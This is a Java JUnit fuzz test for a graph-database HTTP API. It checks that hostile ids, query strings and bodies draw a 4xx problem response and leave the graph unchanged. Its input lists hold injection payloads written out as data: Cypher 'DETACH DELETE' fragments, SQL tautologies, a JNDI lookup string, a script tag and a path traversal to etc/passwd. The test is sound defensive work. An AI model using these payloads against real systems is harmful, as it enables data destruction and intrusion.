package org.skillgraph.api.http;

import static org.assertj.core.api.Assertions.assertThat;
import static org.skillgraph.api.http.ApiFixture.bearer;

import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.skillgraph.engine.access.AccessRole;
import org.skillgraph.seed.testing.Neo4jFixture;

/**
 * Every route with an admin token (so requests get past the gate) and hostile input: Cypher fragments and
 * other injection shapes in ids and search text, junk query parameters, malformed, mistyped, too deep and too
 * large bodies. Every hostile body is refused with a 4xx problem document; a read may answer 200 (a search
 * for injection-shaped text finds nothing) or a 4xx problem; nothing answers 500, and the graph is unchanged.
 */
class FuzzIT {

    static final List<String> HOSTILE_IDS = List.of(
            "x' OR '1'='1",
            "sql\"}) MATCH (n) DETACH DELETE n //",
            "'; CALL db.clearQueryCaches(); //",
            "${jndi:ldap://example.invalid/a}",
            "<script>alert(1)</script>",
            "a".repeat(3_000),
            "..%2F..%2Fetc%2Fpasswd",
            "%00",
            "ü\u202Eevil");

    static final List<String> HOSTILE_BODIES = List.of(
            "{",
            "[]",
            "null",
            "\"text\"",
            "{\"id\": \"x') DETACH DELETE n //\", \"name\": \"}) MATCH (m) DELETE m\"}",
            "{\"id\": 7, \"name\": [1, 2], \"level\": \"high\", \"skills\": {\"a\": {}}}",
            "[".repeat(60) + "]".repeat(60),
            "{\"a\":".repeat(60) + "1" + "}".repeat(60));

    static final String JUNK_QUERY =
            "q=" + encode("sql') DETACH DELETE n //") + "&limit=-1&cursor=%25%25%25&k=abc&depth=99&types=DROP"
                    + "&role=" + encode("' OR 1=1") + "&since=yesterday&minLevel=9&commit=perhaps";

    @Test
    void shouldAnswerHostileInputWithAProblemAndLeaveTheGraphAsItWas() {
        Neo4jFixture.get().useDemo();
        var admin = ApiFixture.token(AccessRole.ADMIN, null);
        var before = AccessMatrixIT.fingerprint();
        var failures = new ArrayList<String>();
        ApiFixture.withDemoAnonymous((app, client) -> {
            for (var row : AccessMatrix.rows()) {
                if (row.open()) {
                    continue;
                }
                var requests = new ArrayList<String[]>();
                for (var id : HOSTILE_IDS) {
                    if (row.path().contains("{")) {
                        requests.add(new String[] {withIds(row.path(), encode(id)), AccessMatrixIT.NOT_A_BODY});
                    } else if (row.method().equals("get")) {
                        requests.add(new String[] {row.path() + "?id=" + encode(id) + "&q=" + encode(id), null});
                    }
                }
                var base = AccessMatrix.concrete(row, "admin");
                if (row.method().equals("get")) {
                    requests.add(new String[] {base + (base.contains("?") ? "&" : "?") + JUNK_QUERY, null});
                } else {
                    for (var body : HOSTILE_BODIES) {
                        requests.add(new String[] {base, body});
                    }
                }
                for (var request : requests) {
                    var response = AccessMatrixIT.send(client, row.method(), request[0], request[1], bearer(admin));
                    int code = response.code();
                    var type = response.headers().get("Content-Type");
                    boolean problem = type != null && type.get(0).startsWith(Problem.MEDIA_TYPE);
                    // A GET may rightly answer 200 (search text is data; unknown parameters are ignored);
                    // a hostile body never may.
                    boolean refusedAsItShould = request[1] == null
                            ? code < 300 || (code < 500 && problem)
                            : code >= 400 && code < 500 && problem;
                    if (!refusedAsItShould) {
                        failures.add(row.key() + " " + abbreviate(request[0]) + " body " + abbreviate(request[1])
                                + " answered " + code + " "
                                + abbreviate(response.body().string()));
                    }
                }
            }
            var oversized = "{\"skills\": [\"" + "x".repeat(17 * 1024 * 1024) + "\"]}";
            var response = AccessMatrixIT.send(client, "post", "/api/v1/import", oversized, bearer(admin));
            if (response.code() != 413) {
                failures.add("an oversized import answered " + response.code());
            }
        });

        assertThat(failures).isEmpty();
        assertThat(AccessMatrixIT.fingerprint()).as("graph after the fuzzing").isEqualTo(before);
    }

    static String withIds(String path, String id) {
        return path.replaceAll("\\{[A-Za-z]+}", java.util.regex.Matcher.quoteReplacement(id));
    }

    static String encode(String value) {
        return URLEncoder.encode(value, StandardCharsets.UTF_8).replace("+", "%20");
    }

    private static String abbreviate(String s) {
        return s == null ? "-" : s.length() > 120 ? s.substring(0, 120) + "…" : s;
    }
}
